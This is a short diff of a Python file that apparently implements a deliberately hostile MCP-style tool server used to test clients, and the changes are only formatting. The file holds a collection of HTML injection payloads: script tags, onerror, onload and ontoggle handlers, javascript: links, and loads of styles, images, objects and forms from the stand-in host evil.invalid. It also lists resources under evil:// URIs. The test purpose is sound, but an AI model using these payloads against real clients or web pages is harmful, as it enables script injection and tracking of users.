@@ -16,9 +16,9 @@ from typing import Any
 
 RUN = "window.pwned=1;fetch('http://evil.invalid/run')"
 TAGS = (
-    f"<script>{RUN}</script><img src=x onerror=\"{RUN}\"><svg onload=\"{RUN}\"><script>{RUN}</script></svg>"
-    f"<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe><details open ontoggle=\"{RUN}\">x</details>"
-    f"<a href=\"javascript:{RUN}\">press</a><img src=\"http://evil.invalid/picture.png\">"
+    f'<script>{RUN}</script><img src=x onerror="{RUN}"><svg onload="{RUN}"><script>{RUN}</script></svg>'
+    f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><details open ontoggle="{RUN}">x</details>'
+    f'<a href="javascript:{RUN}">press</a><img src="http://evil.invalid/picture.png">'
     "<style>@import 'http://evil.invalid/a.css'; body { background: url(http://evil.invalid/b.png) }</style>"
     "<link rel=stylesheet href=http://evil.invalid/c.css><object data=http://evil.invalid/d></object>"
     "<form action=http://evil.invalid/e><button>send</button></form><video src=http://evil.invalid/f autoplay></video>"
@@ -121,7 +121,9 @@ def result(method: str, params: dict[str, Any]) -> dict[str, Any] | None:
         case "tools/call":
             return call(params["name"], params.get("arguments", {}))
         case "resources/list":
-            return {"resources": [{**link(f"evil://{mime}"), "mimeType": mime} for mime in ("text/markdown", "text/html")]}
+            return {
+                "resources": [{**link(f"evil://{mime}"), "mimeType": mime} for mime in ("text/markdown", "text/html")]
+            }
         case "resources/templates/list":
             return {"resourceTemplates": []}
         case "resources/read":
